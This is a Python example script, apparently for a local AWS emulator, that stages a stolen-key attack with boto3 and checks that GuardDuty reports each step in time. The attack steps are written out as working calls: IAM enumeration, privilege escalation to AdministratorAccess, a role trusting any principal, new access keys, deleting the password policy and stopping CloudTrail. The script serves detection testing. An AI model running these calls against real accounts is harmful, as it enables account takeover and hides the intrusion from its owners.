"""An attack on an account, by boto3 alone, and what GuardDuty finds of it.

    ringwall serve --dev --bucket-store buckets --guardduty-learning-days 0 --guardduty-learning-events 50
    python examples/attack.py http://127.0.0.1:4566

First an ordinary day: an administrator sets the account up, and GuardDuty learns what is usual. Then
somebody has stolen an access key, looks around, gives himself more permissions, makes keys of his own,
tries to copy a database, weakens the password policy and stops the trail. Each finding is printed when the API tells it, with the
time since the call that it is about. The script fails if one takes longer than it may.
"""

import argparse
import contextlib
import json
import sys
import time

import boto3
from botocore.config import Config

REGION = "eu-central-1"
# What an intruder's machine says of itself.
KALI = "aws-cli/2.31.0 md/awscrt#0.27 ua/2.1 os/linux#6.6.15-kali md/arch#x86_64 lang/python#3.13"
READER = {
    "Version": "2012-10-17",
    "Statement": {
        "Effect": "Allow",
        "Action": ["iam:List*", "iam:Get*", "iam:AttachUserPolicy", "kms:List*", "ssm:Get*", "ssm:Describe*", "cloudtrail:Describe*"],
        "Resource": "*",
    },
}


class Account:
    """An account as one caller sees it."""

    def __init__(self, endpoint, key, secret, agent=None):
        self.settings = {
            "endpoint_url": endpoint,
            "region_name": REGION,
            "aws_access_key_id": key,
            "aws_secret_access_key": secret,
            "config": Config(retries={"max_attempts": 0}, user_agent=agent),
        }

    def __getattr__(self, service):
        return boto3.client(service, **self.settings)


class Findings:
    """Findings as they come."""

    def __init__(self, guardduty, detector, patience):
        self.guardduty, self.detector, self.patience = guardduty, detector, patience
        self.seen = {}

    def news(self):
        """Findings that were not seen yet."""
        listed = self.guardduty.list_findings(DetectorId=self.detector)["FindingIds"]
        new = [one for one in listed if one not in self.seen]
        found = self.guardduty.get_findings(DetectorId=self.detector, FindingIds=new)["Findings"] if new else []
        self.seen |= {one["Id"]: one for one in found}
        return found

    def after(self, step, expected, calls):
        """Makes calls, and waits for the findings that they must be."""
        print(f"\n{step}")
        calls()
        begin, missing = time.monotonic(), set(expected)
        while missing:
            for found in self.news():
                seconds = time.monotonic() - begin
                print(f"  {found['Severity']:4.1f}  {found['Type']}  after {seconds:.2f} s\n        {found['Title']}")
                missing.discard(found["Type"])
            if missing and time.monotonic() - begin > self.patience:
                sys.exit(f"not found within {self.patience} seconds: {sorted(missing)}")
            time.sleep(0.02)


def ordinary_day(admin):
    """Sets the account up; gives the key that will be stolen."""
    iam, ssm, cloudtrail = admin.iam, admin.ssm, admin.cloudtrail
    iam.update_account_password_policy(MinimumPasswordLength=14, RequireSymbols=True, RequireNumbers=True)
    iam.create_user(UserName="deploy")
    iam.put_user_policy(UserName="deploy", PolicyName="reader", PolicyDocument=json.dumps(READER))
    key = iam.create_access_key(UserName="deploy")["AccessKey"]
    cloudtrail.create_trail(Name="audit", S3BucketName="logs", IsMultiRegionTrail=True)
    cloudtrail.start_logging(Name="audit")
    for number in range(60):
        ssm.put_parameter(Name=f"/shop/{number}", Value=str(number), Type="String")
    # The day is over once all of it is recorded: who attacks comes later.
    while "/shop/59" not in newest(cloudtrail, "PutParameter"):
        time.sleep(0.1)
    return key


def newest(cloudtrail, name):
    """The newest calls of an operation, as text."""
    attributes = [{"AttributeKey": "EventName", "AttributeValue": name}]
    events = cloudtrail.lookup_events(LookupAttributes=attributes)["Events"]
    return " ".join(event["CloudTrailEvent"] for event in events)


def attack(thief, findings):
    """What the thief does, step by step."""

    def looks_around():
        thief.iam.list_users()
        thief.iam.list_roles()
        thief.iam.list_policies(Scope="AWS")
        thief.kms.list_keys()
        thief.cloudtrail.describe_trails()

    def reads_parameters():
        thief.ssm.get_parameters_by_path(Path="/", Recursive=True)

    def takes_over():
        administrator = "arn:aws:iam::aws:policy/AdministratorAccess"
        thief.iam.attach_user_policy(UserName="deploy", PolicyArn=administrator)

    def makes_a_way_back():
        trust = {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}
        document = json.dumps({"Version": "2012-10-17", "Statement": trust})
        thief.iam.create_role(RoleName="support", AssumeRolePolicyDocument=document)
        thief.iam.create_user(UserName="helper")
        thief.iam.create_access_key(UserName="helper")

    def copies_the_database():
        # There is no database to be copied here: it is the attempt that is seen.
        rds = thief.rds
        with contextlib.suppress(rds.exceptions.DBInstanceNotFoundFault):
            rds.create_db_snapshot(DBInstanceIdentifier="customers", DBSnapshotIdentifier="taken")

    def weakens_passwords():
        thief.iam.delete_account_password_policy()

    def blinds_the_trail():
        thief.cloudtrail.stop_logging(Name="audit")

    tactic = "{}:IAMUser/AnomalousBehavior".format
    findings.after("Enumeration", ["PenTest:IAMUser/KaliLinux", tactic("Discovery")], looks_around)
    findings.after("Secrets", [tactic("CredentialAccess")], reads_parameters)
    findings.after("Privilege escalation", [tactic("PrivilegeEscalation")], takes_over)
    findings.after("Keys of his own", [tactic("Persistence")], makes_a_way_back)
    findings.after("A database, tried", [tactic("Exfiltration")], copies_the_database)
    findings.after("Passwords", ["Stealth:IAMUser/PasswordPolicyChange"], weakens_passwords)
    findings.after("The trail", ["Stealth:IAMUser/CloudTrailLoggingDisabled"], blinds_the_trail)
    sequences = [one for one in findings.seen.values() if one["Type"] == "AttackSequence:IAM/CompromisedCredentials"]
    if not sequences:
        sys.exit("the attack was not seen as a sequence")
    print(f"\n{len(findings.seen)} findings; the sequence has {len(sequences[0]['Service']['Detection']['Sequence']['Signals'])} signals")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("endpoint", help="where Ringwall listens: http://127.0.0.1:4566")
    parser.add_argument("--account", default="111122223333", help="with --dev: the account [default: %(default)s]")
    parser.add_argument("--patience", type=float, default=2.0, help="seconds a finding may take [default: %(default)s]")
    flags = parser.parse_args()

    admin = Account(flags.endpoint, flags.account, "test")
    detector = admin.guardduty.create_detector(Enable=True)["DetectorId"]
    key = ordinary_day(admin)
    thief = Account(flags.endpoint, key["AccessKeyId"], key["SecretAccessKey"], KALI)
    findings = Findings(admin.guardduty, detector, flags.patience)
    findings.after("An ordinary day", ["Policy:IAMUser/RootCredentialUsage"], lambda: None)
    attack(thief, findings)


if __name__ == "__main__":
    main()
